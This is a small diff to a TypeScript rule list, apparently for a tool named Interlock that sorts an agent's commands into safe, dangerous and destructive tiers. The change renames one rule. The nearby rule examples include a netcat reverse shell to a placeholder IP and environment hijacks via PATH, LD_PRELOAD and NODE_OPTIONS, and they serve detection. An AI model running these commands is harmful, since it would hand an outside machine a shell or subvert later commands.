@@ -24,6 +24,6 @@ export const execution: readonly Rule[] = [
   { id: 'execution/reverse-shell', doc: 'gives another machine a shell here', when: { effect: ['execution.reverse-shell'] }, tier: 'destructive', examples: ['nc -e /bin/sh 203.0.113.9 4444'] },
   { id: 'execution/unmapped', doc: 'runs something that Interlock does not know', when: { effect: ['execution.unmapped'] }, tier: 'dangerous', examples: ['frobnicate --now', 'no_such_tool {}'] },
   { id: 'execution/delegate', doc: 'hands work to another agent, whose calls may not be checked', when: { effect: ['execution.delegate'] }, tier: 'dangerous', examples: ['transfer_task {"agent":"helper","task":"tidy up"}'] },
-  { id: 'execution/environment', doc: 'sets harmless variables', when: { effect: ['environment.change'] }, tier: 'safe', examples: ['x=1', 'LC_ALL=C ls'] },
+  { id: 'shell/variables', doc: 'sets harmless variables', when: { effect: ['environment.change'] }, tier: 'safe', examples: ['x=1', 'export CI=1'] },
   { id: 'execution/environment-hazard', doc: 'changes what later commands mean', when: { effect: ['environment.hazard'] }, tier: 'dangerous', examples: ['PATH=/tmp/bin ls', 'LD_PRELOAD=./x.so ls', 'export NODE_OPTIONS=--require=./x.js'] },
 ]
